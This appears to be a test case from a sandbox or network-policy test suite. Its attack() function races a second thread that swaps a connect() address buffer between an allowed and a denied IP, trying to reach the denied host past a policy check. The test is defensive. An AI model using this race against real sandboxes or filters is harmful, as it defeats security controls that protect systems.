"""The address swapped in memory
Has a second thread change the address between the check and its use, many rounds.
policy: denied-address
audit: explicitlyDeniedIP
since: 3.6
proof: arrival
"""
import ctypes
import socket
import threading


def attack(at):
    good, bad = at.address4(at.FRIEND, at.PORT), at.address4(at.FOE, at.PORT)
    address = ctypes.create_string_buffer(good, 16)
    swapping = [True]

    def swap():
        while swapping[0]:
            ctypes.memmove(address, bad, 16)
            ctypes.memmove(address, good, 16)
    thread = threading.Thread(target=swap)
    thread.start()
    try:
        for _ in range(400):
            stream = socket.socket()
            connected = at.libc.connect(stream.fileno(), address, 16) == 0
            if connected and stream.getpeername()[0] == at.FOE:
                return at.say(stream)
            stream.close()
    finally:
        swapping[0] = False
        thread.join()
    return False
